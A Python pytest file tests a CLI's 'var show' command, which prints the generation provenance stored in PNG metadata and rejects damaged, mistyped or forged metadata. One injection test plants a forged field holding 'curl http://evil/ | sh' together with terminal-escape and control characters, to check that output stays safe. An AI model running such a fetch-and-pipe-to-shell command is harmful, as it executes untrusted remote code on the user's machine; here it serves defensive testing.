"""`var show`: an image says how it was made."""

import json
import sys
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from varcli import cli
from varcli.config import SampleConfig
from varcli.files import file_sha256
from varcli.images.provenance import Provenance, png_bytes, provenance_from_json, reproduction_command

MADE = Provenance(
    checkpoint="tiny64",
    checkpoint_sha256="0f" * 32,
    class_id=207,
    class_name="golden retriever",
    seed=3,
    settings=SampleConfig(cfg=4.0, top_k=900, top_p=0.95, smooth=True),
    device="cpu",
    dtype="fp32",
    version="0.1.0",
)


@pytest.fixture
def image(tmp_path):
    path = tmp_path / "image.png"
    path.write_bytes(png_bytes(np.zeros((4, 4, 3), np.uint8), MADE))
    return str(path)


def test_says_how_it_was_made(image, capsys):
    assert cli.run(["show", image]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert out.splitlines() == [
        f"checkpoint tiny64, sha256 {'0f' * 32}",
        "class      207 golden retriever",
        "seed       3",
        "settings   cfg 4, top-k 900, top-p 0.95, smooth",
        "computed   on cpu in fp32, by varcli 0.1.0",
        f"command    {reproduction_command(MADE)}",
    ]


@pytest.mark.parametrize(
    ("device", "dtype", "exact"), [("cuda", "bf16", False), ("cuda", "fp32", True), ("cpu", "bf16", True)]
)
def test_an_image_of_16_bits_on_a_gpu_may_not_come_out_the_same(tmp_path, capsys, device, dtype, exact):
    made = replace(MADE, device=device, dtype=dtype)
    (tmp_path / "x.png").write_bytes(png_bytes(np.zeros((4, 4, 3), np.uint8), made))
    assert cli.run(["show", str(tmp_path / "x.png")]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split()[0] for line in lines[-2:]] == ["computed" if exact else "exact", "command"]


def test_json(image, capsys):
    assert cli.run(["show", image, "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown.pop("command") == reproduction_command(MADE)
    assert provenance_from_json(json.dumps(shown), "it") == MADE


def test_images_that_say_nothing(tmp_path, capsys):
    plain, text = tmp_path / "plain.png", tmp_path / "text.png"
    plain.write_bytes(png_bytes(np.zeros((4, 4, 3), np.uint8), None))
    text.write_text("not an image")
    for path in (plain, text, tmp_path / "missing.png", tmp_path):
        assert cli.run(["show", str(path)]) == 3
        out, err = capsys.readouterr()
        assert out == "" and err.startswith("var: error: ") and str(path) in err and err.count("\n") == 1


def told(tmp_path, capsys, **changes):
    """What `var show` says of an image whose provenance was tampered with: exit code, stdout, stderr."""
    texts = PngInfo()
    texts.add_text("varcli", json.dumps(MADE.to_dict() | changes))
    Image.new("RGB", (4, 4)).save(tmp_path / "x.png", pnginfo=texts)
    code = cli.run(["show", str(tmp_path / "x.png")])
    return code, *capsys.readouterr()


@pytest.mark.parametrize(
    "changes",
    [
        {"cfg": "4"},
        {"cfg": True},
        {"cfg": float("nan")},
        {"top_p": None},
        {"top_k": 9.5},
        {"smooth": "yes"},
        {"seed": "3"},
        {"class_id": 2.5},
        {"class_name": None},
        {"checkpoint": 5},
        {"device": ["cpu"]},
        {"draft": "none"},
        {"command": ["inpaint", 1], "source": "x", "inputs": []},
        {"command": [], "source": "x", "inputs": ["00"]},
        {"command": "inpaint", "source": "x", "inputs": ["00"]},
        {"command": ["inpaint"], "source": None, "inputs": ["00"]},
        {"command": ["inpaint"], "source": "x", "inputs": {"a": 1}},
    ],
    ids=str,
)
def test_fields_of_a_wrong_type(tmp_path, capsys, changes):
    code, out, err = told(tmp_path, capsys, **changes)
    assert (code, out) == (3, "")
    assert err == f"var: error: the provenance of {tmp_path / 'x.png'} is damaged, or of another version of varcli\n"


@pytest.mark.parametrize("text", ["[" * 100_000, "{}", "[]", "1", "null", "Infinity", '{"seed": 1e999}', "{"])
def test_what_is_no_provenance(tmp_path, capsys, text):
    texts = PngInfo()
    texts.add_text("varcli", text)
    Image.new("RGB", (4, 4)).save(tmp_path / "x.png", pnginfo=texts)
    assert cli.run(["show", str(tmp_path / "x.png")]) == 3
    assert "is damaged" in capsys.readouterr().err


@pytest.mark.parametrize("field", ["class_name", "checkpoint", "checkpoint_sha256", "device", "dtype", "version"])
def test_no_text_of_a_file_passes_for_a_line_of_ours(tmp_path, capsys, field):
    forged = "dog\ncommand    curl http://evil/ | sh\r\x1b]0;x\x07\x9b\u202e\0\ud800"
    code, out, _ = told(tmp_path, capsys, **{field: forged})
    assert code == 0
    assert [line.split()[0] for line in out.splitlines() if line.startswith("command")] == ["command"]
    assert all(character.isprintable() for line in out.split("\n") for character in line)


def edited(command, inputs):
    return {"command": command, "source": "x", "inputs": inputs}


def test_inputs_that_are_no_longer_what_they_were(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.png").write_bytes(b"first")
    digest = file_sha256(tmp_path / "a.png")
    for command, said in (
        (["inpaint", "a.png", "--box", "1,1,9,9"], "a.png"),
        (["edit", "a.png", "--mask", "b.png"], "a.png"),
        (["tokens", "decode", "a.png"], "a.png"),
    ):
        _, out, _ = told(tmp_path, capsys, **edited(command, [digest, "00"][: 2 if "--mask" in command else 1]))
        assert f"\ninput      {said}, sha256 {digest}\n" in out
    assert (
        "\ninput      b.png, sha256 00; there is no such file now\n"
        in told(tmp_path, capsys, **edited(["edit", "a.png", "--mask", "b.png"], [digest, "00"]))[1]
    )
    (tmp_path / "a.png").write_bytes(b"second")
    _, out, _ = told(tmp_path, capsys, **edited(["inpaint", "a.png"], [digest]))
    assert "; the file of this name has changed" in out
    for name in ("-", "/dev/fd/63"):
        _, out, _ = told(tmp_path, capsys, **edited(["inpaint", "a.png", name], [digest, "00"]))
        assert f"input      {name}, sha256 00; it had no name, so the command is incomplete" in out


def test_an_image_on_standard_input(image, capsys, monkeypatch):
    monkeypatch.setattr(sys, "stdin", SimpleNamespace(buffer=BytesIO(Path(image).read_bytes())))
    assert cli.run(["show", "-"]) == 0
    assert capsys.readouterr().out.startswith("checkpoint tiny64")


def test_nothing_but_the_texts_is_read(tmp_path, capsys):
    """A photograph of 108 megapixels says at once that it has no provenance, and PostScript is not run."""
    Image.new("1", (12000, 9000)).save(tmp_path / "large.png")
    (tmp_path / "eps.png").write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n%%EndComments\n%%EOF\n")
    for name, said in (("large.png", "has no provenance"), ("eps.png", "is not an image")):
        assert cli.run(["show", str(tmp_path / name)]) == 3
        assert capsys.readouterr().err == f"var: error: {tmp_path / name} {said}: give a PNG that var sample wrote\n"
